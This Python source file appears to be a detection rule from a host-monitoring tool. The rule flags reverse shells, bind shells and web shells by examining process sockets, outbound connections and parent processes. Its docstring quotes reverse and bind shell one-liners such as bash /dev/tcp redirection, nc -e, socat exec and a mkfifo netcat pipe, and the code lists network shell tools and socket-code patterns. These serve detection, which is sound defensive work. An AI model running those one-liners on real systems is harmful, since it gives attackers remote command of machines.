"""Reverse and bind shells: a shell or interpreter wired to the network.

Three real shapes are recognised, whatever the one-liner that built them:

* **stdio on a socket** — ``bash -i >& /dev/tcp/H/P 0>&1``, ``nc -e /bin/sh``, perl/python/
  ruby/php one-liners that ``dup2`` a socket onto 0-2: the shell's stdin/stdout is a TCP socket;
* **a network tool or shell holding an outbound connection** — ``socat exec:bash tcp:H:P``,
  ``mkfifo f; sh -i <f | nc H P >f``, ``openssl s_client``, an interpreter that spawned a shell
  (``pty.spawn``) while holding a connection;
* **a shell whose parent is a network service** — a web shell or a bind shell
  (``ncat -l -e /bin/sh``): the parent listens on a port and is not a login service.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import datetime
from typing import Any

from vigil.server.detect.base import Facts, Finding, Rule, RuleContext
from vigil.server.detect.rules._common import is_loopback, parse_time, process_evidence, program_names

SHELLS = {"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "csh", "tcsh", "fish",
          "rbash", "yash"}
INTERPRETERS = {"python", "perl", "ruby", "php", "node", "nodejs", "lua", "tclsh", "pypy", "awk",
                "gawk", "mawk", "jjs", "irb"}
NET_TOOLS = {"nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat", "telnet", "openssl",
             "cryptcat", "pwncat", "sbd"}
#: parents that legitimately start shells for people who logged in over the network
LOGIN_SERVICES = {"sshd", "dropbear", "login", "in.telnetd", "telnetd", "mosh-server", "agetty",
                  "systemd", "init", "cron", "crond", "atd", "sudo", "su", "tmux", "screen",
                  "tmux: server", "sshd-session", "sshd-auth", "code-server"}
#: remote ports where a plain TCP stream is expected; a shell elsewhere also earns T1571
STANDARD_PORTS = {20, 21, 22, 23, 25, 53, 80, 110, 143, 443, 465, 587, 993, 995, 8080, 8443}
#: inline code that opens a socket (the interpreter one-liners of reverse-shell cheat sheets)
_INLINE_SOCKET = re.compile(
    r"socket|/dev/tcp/|/dev/udp/|fsockopen|TCPSocket|IO::Socket|net\.Socket|pty\.spawn|"
    r"subprocess|os\.dup2|exec\s*\(|popen", re.IGNORECASE)
_INLINE_FLAGS = {"-c", "-e", "-r", "-E", "--eval", "-x"}


def _kinds(item: dict[str, Any]) -> set[str]:
    names = program_names(item)
    kinds = set()
    if names & SHELLS:
        kinds.add("shell")
    if names & INTERPRETERS:
        kinds.add("interpreter")
    if names & NET_TOOLS:
        kinds.add("net-tool")
    return kinds


def _inline_socket_code(item: dict[str, Any]) -> bool:
    args = [str(a) for a in item.get("cmdline") or []]
    return any(arg in _INLINE_FLAGS and _INLINE_SOCKET.search(args[i + 1]) for i, arg in enumerate(args[:-1]))


class ReverseShellRule(Rule):
    """A shell or interpreter whose stdin/stdout is a network socket, a shell or network tool
    holding an outbound connection, or a shell started by a network service: an attacker is
    typing commands over the network (a reverse or bind shell, a web shell)."""

    id = "reverse-shell"
    title = "Reverse shell"
    techniques = ("T1059.004", "T1095")
    tactic = "execution"
    severity = "high"
    controls = ("SI-4", "SC-7", "AC-17", "CM-7")
    evidence_fields = ("form", "process", "connection", "parent", "c2")
    inputs = ("processes", "connections")

    def evaluate(self, facts: Facts, ctx: RuleContext) -> Iterator[Finding]:
        candidates: dict[int, dict[str, Any]] = {}
        for change in facts.changes.get("processes", []):
            candidates[change.item["pid"]] = change.item
        procs = ctx.processes() if candidates or facts.changes.get("connections") else {}
        for change in facts.changes.get("connections", []):
            pid = change.item.get("pid")
            if pid is not None and pid in procs:
                candidates[pid] = procs[pid]
        if not candidates:
            return
        by_pid = self._connections_by_pid(ctx)
        listening = {item.get("pid") for item in ctx.listening() if item.get("pid") is not None}
        children: dict[int, list[dict[str, Any]]] = {}
        for proc in procs.values():
            if proc.get("ppid") is not None:
                children.setdefault(proc["ppid"], []).append(proc)
        for item in candidates.values():
            found = self._judge(item, procs, by_pid, listening, children, ctx.now)
            if found is not None:
                yield found

    @staticmethod
    def _connections_by_pid(ctx: RuleContext) -> dict[int, list[dict[str, Any]]]:
        local_ports = {(i.get("port")) for i in ctx.listening()}
        out: dict[int, list[dict[str, Any]]] = {}
        for conn in ctx.connections():
            if conn.get("pid") is None or not conn.get("raddr") or conn.get("rport") in (None, 0):
                continue
            if not str(conn.get("proto", "")).startswith("tcp") or conn.get("status") != "ESTABLISHED":
                continue
            if conn.get("lport") in local_ports:
                continue  # accepted by a local server: inbound, not outbound
            out.setdefault(conn["pid"], []).append(conn)
        return out

    def _judge(
        self, item: dict[str, Any], procs: dict[int, dict[str, Any]],
        by_pid: dict[int, list[dict[str, Any]]], listening: set[Any],
        children: dict[int, list[dict[str, Any]]], now: datetime,
    ) -> Finding | None:
        kinds = _kinds(item)
        if not kinds:
            return None
        pid = item["pid"]
        parent = procs.get(item.get("ppid") or -1)
        outbound = [c for c in by_pid.get(pid, []) if not is_loopback(c.get("raddr"))]
        c2: tuple[str, int] | None = None
        if item.get("stdio_raddr"):
            form = "stdio-socket"
            c2 = (item["stdio_raddr"], int(item.get("stdio_rport") or 0))
            why = (f"{item['name']} (pid {pid}) has its standard input/output on a TCP socket to "
                   f"{c2[0]}:{c2[1]}")
        elif outbound and (kinds & {"shell", "net-tool"}):
            form = "outbound-connection"
            c2 = (outbound[0]["raddr"], int(outbound[0]["rport"]))
            why = f"{item['name']} (pid {pid}) holds a connection to {c2[0]}:{c2[1]}"
        elif outbound and "interpreter" in kinds and (
            _inline_socket_code(item)
            or any(_kinds(child) & {"shell"} for child in children.get(pid, []))
        ):
            form = "interpreter-connection"
            c2 = (outbound[0]["raddr"], int(outbound[0]["rport"]))
            why = (f"{item['name']} (pid {pid}) runs inline socket code or a shell while holding "
                   f"a connection to {c2[0]}:{c2[1]}")
        elif "shell" in kinds and parent is not None and self._network_service(parent, listening):
            form = "network-service-parent"
            why = (f"{item['name']} (pid {pid}) was started by {parent.get('name')} "
                   f"(pid {parent['pid']}), a process listening on the network")
        else:
            return None
        techniques: tuple[str, ...] = self.techniques
        if c2 is not None and c2[1] not in STANDARD_PORTS:
            techniques = (*techniques, "T1571")
        evidence: dict[str, Any] = {"form": form, "process": process_evidence(item)}
        if parent is not None:
            evidence["parent"] = process_evidence(parent)
        if c2 is not None:
            evidence["c2"] = {"address": c2[0], "port": c2[1]}
            conns = [c for c in by_pid.get(pid, []) if c.get("raddr") == c2[0]]
            if conns:
                evidence["connection"] = conns[0]
        observed = parse_time(item["start_time"]) if item.get("start_time") else None
        return Finding(
            subject=str(item.get("key") or pid),
            observed_at=observed or now,
            reason=why,
            evidence=evidence,
            src_ip=c2[0] if c2 and not is_loopback(c2[0]) else None,
            techniques=techniques,
        )

    @staticmethod
    def _network_service(parent: dict[str, Any], listening: set[Any]) -> bool:
        if program_names(parent) & LOGIN_SERVICES or str(parent.get("name", "")).startswith("sshd"):
            return False
        return parent.get("pid") in listening
